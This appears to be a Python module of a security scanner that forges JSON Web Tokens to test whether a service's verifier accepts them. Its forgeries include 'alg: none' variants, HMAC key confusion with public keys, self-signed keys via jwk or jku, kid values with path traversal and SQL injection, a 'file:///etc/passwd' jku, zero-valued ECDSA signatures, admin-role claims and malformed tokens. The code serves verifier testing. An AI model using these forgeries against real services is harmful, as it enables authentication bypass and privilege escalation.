"""Hostile tokens that real verifiers of JSON Web Tokens have accepted (RFC 8725 lists most of the flaws).

Each is a changed copy of a genuine token of the attacker: the access token of a live session, or an unused pending
token. So only the verification of the token itself can refuse it.
"""

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from service.attack.report import NotTried

Forged = Iterator[tuple[str, str]]
"""Pairs of a description and a token."""

_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # of P-256 (FIPS 186)
_HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
_NOWHERE = "http://127.0.0.1:9/keys"
_KIDS: tuple[object, ...] = (
    "", "../../../../../dev/null", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'a", "keyturn|id", _NOWHERE, "0",
    "a" * 1000, "\u0000", "\ud800", "%00", None, 0, -1, 1e308, True, [], {}, ["a"],
)  # fmt: skip


def encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def part(value: object) -> str:
    """Encode a header or a payload."""
    return encode(json.dumps(value, separators=(",", ":")).encode("utf-8", "surrogatepass"))


class Forger:
    """Forges tokens from a genuine token and the published keys. Raises `NotTried` if the token is not a JWT."""

    def __init__(self, genuine: str, keys: list[dict[str, Any]]) -> None:
        try:
            head, payload, signature = genuine.split(".")
            self.header: dict[str, Any] = json.loads(decode(head))
            self.claims: dict[str, Any] = json.loads(decode(payload))
            self.signature = decode(signature)
        except ValueError:
            raise NotTried("the service's token is not a signed JWT") from None
        self.genuine = genuine
        self.keys = keys
        self.greedy = {
            **self.claims,
            "roles": ["admin"],
            "acr": "aal2",
            "amr": ["pwd", "otp", "mfa"],
            "exp": int(self.claims.get("exp", 0)) + 86400,
        }
        self._own = ec.generate_private_key(ec.SECP256R1())

    def unsigned(self) -> Forged:
        """`alg` is none in many spellings, unknown, or missing; with no, any, or the genuine signature."""
        for algorithm in ("none", "None", "NONE", "nOnE", "none ", "", "null", "HS", "ES256K", "A128KW", "dir"):
            for typ in ("at+jwt", "JWT", "mfa+jwt", None):
                header = {**self.header, "alg": algorithm, "typ": typ}
                if typ is None:
                    del header["typ"]
                for kind, signature in (("no", b""), ("a", b"\0"), ("the genuine", self.signature)):
                    what = f"alg {algorithm!r}, typ {typ}, with {kind} signature"
                    yield what, self._joined(header, self.greedy, signature)
        odd: tuple[object, ...] = (None, 0, True, [], {}, ["ES256"], ["none"])
        for value in odd:
            yield f"alg {value!r}", self._joined({**self.header, "alg": value}, self.greedy, b"")
        bare = {name: value for name, value in self.header.items() if name != "alg"}
        yield "no alg", self._joined(bare, self.greedy, b"")
        yield "no header", self._joined({}, self.greedy, b"")
        yield "the header none and no kid", self._joined({"alg": "none"}, self.greedy, b"")

    def public_keys_as_secrets(self) -> Forged:
        """HMAC with publicly known bytes as its key (RFC 8725 section 2.1)."""
        # HMAC fills a short key up with zeros.
        secrets = {"an empty or zero key": b"", "the word secret": b"secret", "keyturn": b"keyturn"}
        for number, jwk in enumerate(self.keys):
            secrets |= {f"{name} of key {number}": key for name, key in _spellings(jwk).items()}
        for algorithm in _HASHES:
            for what, key in secrets.items():
                for typ in ("at+jwt", "mfa+jwt"):
                    header = {**self.header, "alg": algorithm, "typ": typ}
                    yield f"{algorithm} with {what}, typ {typ}", self._with_hmac(header, self.greedy, key)

    def own_keys(self) -> Forged:
        """A correct signature by the attacker's own key, which the token contains, points to, or only names."""
        public = _public_jwk(self._own)
        pointers: dict[str, dict[str, object]] = {
            "nothing else": {},
            "jwk": {"jwk": public},
            "jwk and its kid": {"jwk": public, "kid": "mine"},
            "jku": {"jku": _NOWHERE},
            "x5u": {"x5u": _NOWHERE},
            "x5c": {"x5c": [base64.b64encode(b"no certificate").decode()]},
            "a file as jku": {"jku": "file:///etc/passwd"},
            "jwks": {"jwks": {"keys": [public]}},
        }
        for what, more in pointers.items():
            yield f"signed by the attacker's key, with {what}", self._by_own_key({**self.header, **more})
        for kid in _KIDS:
            header = {**self.header, "kid": kid}
            yield f"kid {str(kid)[:12]!a}, the attacker's key", self._by_own_key(header)
            yield f"kid {str(kid)[:12]!a}, HMAC", self._with_hmac({**header, "alg": "HS256"}, self.greedy, b"")
        bare = {name: value for name, value in self.header.items() if name != "kid"}
        yield "no kid", self._by_own_key(bare)
        yield "alg RS256 with a signature of ES256", self._by_own_key({**self.header, "alg": "RS256"})

    def signatures(self) -> Forged:
        """Signatures of zeros (CVE-2022-21449), of boundary values, cut or altered; with any claims."""
        size = len(self.signature)
        half = size // 2
        n, one = _ORDER.to_bytes(32, "big"), (1).to_bytes(32, "big")
        forged = {
            "none": b"", "zeros": bytes(size), "one zero": b"\0", "r = 0": bytes(half) + self.signature[half:],
            "s = 0": self.signature[:half] + bytes(half), "r = s = n": n + n, "r = s = 1": one + one,
            "r = s = n - 1": 2 * (_ORDER - 1).to_bytes(32, "big"), "all ones": b"\xff" * size,
            "a half": self.signature[:half], "one byte less": self.signature[:-1],
            "one byte more": self.signature + b"\0", "a zero before": b"\0" + self.signature,
            "twice": self.signature * 2, "DER of zeros": encode_dss_signature(0, 0), "reversed": self.signature[::-1],
        }  # fmt: skip
        for what, signature in forged.items():
            yield f"signature: {what}", self._joined(self.header, self.greedy, signature)
            yield f"genuine claims, signature: {what}", self._joined(self.header, self.claims, signature)

    def changed(self) -> Forged:
        """The genuine signature with other claims, another type, or a critical header (`crit`)."""
        wrong: list[object] = ["", "x", 0, None, [], {}, True]
        for name in ("iss", "sub", "aud", "exp", "iat", "sid", "acr", "jti"):
            for value in wrong[: 4 if name in {"iss", "aud"} else 3]:
                yield f"{name} {value!r}", self._joined(self.header, {**self.claims, name: value}, self.signature)
            less = {known: value for known, value in self.claims.items() if known != name}
            if less == self.claims:
                continue  # a pending token may lack the claim: that would be the genuine token
            yield f"no {name}", self._joined(self.header, less, self.signature)
        headers: dict[str, dict[str, object]] = {
            "typ JWT": {"typ": "JWT"}, "typ mfa+jwt": {"typ": "mfa+jwt"}, "typ as a list": {"typ": ["at+jwt"]},
            "crit": {"crit": ["exp"], "exp": 1}, "empty crit": {"crit": []},
            "b64 false": {"b64": False, "crit": ["b64"]},
            "zip": {"zip": "DEF"}, "nested": {"cty": "JWT"}, "enc": {"enc": "A256GCM"},
        }  # fmt: skip
        for what, more in headers.items():
            if {**self.header, **more} == self.header:
                continue  # the genuine typ
            yield what, self._joined({**self.header, **more}, self.claims, self.signature)

    def malformed(self) -> Forged:
        """Texts that are almost a token, far too long, or written so that two parsers read them differently."""
        head, payload, signature = self.genuine.split(".")
        known = json.dumps(self.claims).encode()[:-1]
        header = json.dumps(self.header).encode()
        deep = encode(b"[" * 900 + b"]" * 900)
        yield from {
            "two parts": f"{head}.{payload}",
            "one part": head,
            "four parts": f"{self.genuine}.{signature}",
            "five parts": f"{head}.{payload}.{signature}.{head}.{signature}",
            "dots": "..",
            "a dot": ".",
            "a thousand dots": "a." * 1000,
            "another order": f"{payload}.{head}.{signature}",
            "JSON's form": '{"payload":"e30","signatures":[]}',
            "not base64": "!!!.???.***",
        }.items()
        for what, first, second, third in (
            ("no header", "", payload, signature),
            ("no payload", head, "", signature),
            ("padding", f"{head}=", f"{payload}==", f"{signature}=="),
            ("another alphabet", head, payload, f"{signature[:-4]}+/+/"),
            ("a space", head, f" {payload}", signature),
            ("not ASCII", head, payload, f"{signature}\u20ac"),
            ("an accent", head, f"\u00e9{payload}", signature),
            ("a lone surrogate", head, f"{payload}\ud800", signature),
            ("a surrogate in the header", part({**self.header, "typ": "\ud800"}), payload, signature),
            ("a surrogate in the claims", head, part({**self.claims, "sub": "\udfff"}), signature),
            ("alg twice", encode(b'{"alg":"none",' + header[1:]), payload, ""),
            ("alg twice, none last", encode(header[:-1] + b',"alg":"none"}'), payload, ""),
            ("sub and roles twice", head, encode(known + b',"sub":"admin","roles":["admin"]}'), signature),
            ("a header of 3 kB", part({**self.header, "x": "a" * 2200}), payload, signature),
            ("claims of 8 kB", head, part({**self.claims, "x": "a" * 5600}), signature),
            ("a signature of 10 kB", head, payload, "A" * 10_000),
            ("a deep header", deep, payload, signature),
            ("deep claims", head, deep, signature),
            ("a list for a header", part([self.header]), payload, signature),
            ("null for a header", part(None), payload, signature),
            ("a string for a header", part("none"), payload, ""),
            ("a huge number", head, encode(known + b',"exp":1e999}'), signature),
            ("NaN", head, encode(known + b',"exp":NaN}'), signature),
            ("long digits", head, encode(b'{"exp":' + b"9" * 5000 + b"}"), signature),
            ("a token in a token", head, part(self.genuine), signature),
            ("UTF-16", encode(json.dumps(self.header).encode("utf-16")), payload, signature),
            ("not UTF-8", encode(b"\xff\xfe" + header), payload, signature),
        ):
            yield what, f"{first}.{second}.{third}"

    def all(self) -> Forged:
        yield from self.unsigned()
        yield from self.public_keys_as_secrets()
        yield from self.own_keys()
        yield from self.signatures()
        yield from self.changed()
        yield from self.malformed()

    def _joined(self, header: Mapping[str, object], claims: Mapping[str, object], signature: bytes) -> str:
        return f"{part(header)}.{part(claims)}.{encode(signature)}"

    def _with_hmac(self, header: Mapping[str, object], claims: Mapping[str, object], key: bytes) -> str:
        signed = f"{part(header)}.{part(claims)}"
        digest = getattr(hashlib, _HASHES[str(header["alg"])])
        return f"{signed}.{encode(hmac.new(key, signed.encode(), digest).digest())}"

    def _by_own_key(self, header: Mapping[str, object]) -> str:
        signed = f"{part(header)}.{part(self.greedy)}"
        r, s = decode_dss_signature(self._own.sign(signed.encode(), ec.ECDSA(hashes.SHA256())))
        return f"{signed}.{encode(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def _public_jwk(key: ec.EllipticCurvePrivateKey) -> dict[str, str]:
    numbers = key.public_key().public_numbers()
    x, y = (encode(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
    return {"kty": "EC", "crv": "P-256", "x": x, "y": y, "alg": "ES256", "use": "sig", "kid": "mine"}


def _spellings(jwk: dict[str, Any]) -> dict[str, bytes]:
    """Return the encodings of a public key that a careless verifier may use as an HMAC key."""
    compact, loose = (json.dumps(jwk, separators=how).encode() for how in ((",", ":"), (", ", ": ")))
    found = {"JSON": compact, "loose JSON": loose, "kid": str(jwk.get("kid", "")).encode()}
    found |= {f"member {name}": str(jwk[name]).encode() for name in ("x", "n") if name in jwk}
    key: ec.EllipticCurvePublicKey | rsa.RSAPublicKey
    try:
        if jwk.get("kty") == "EC":
            x, y = (int.from_bytes(decode(jwk[name]), "big") for name in ("x", "y"))
            key = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
            found["point"] = key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        elif jwk.get("kty") == "RSA":
            e, n = (int.from_bytes(decode(jwk[name]), "big") for name in ("e", "n"))
            key = rsa.RSAPublicNumbers(e, n).public_key()
        else:
            return found | {"raw bytes": decode(str(jwk.get("x", "")))}
    except (KeyError, ValueError):
        return found
    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    der = key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    return found | {"PEM": pem, "PEM without its last line end": pem.rstrip(b"\n"), "DER": der}
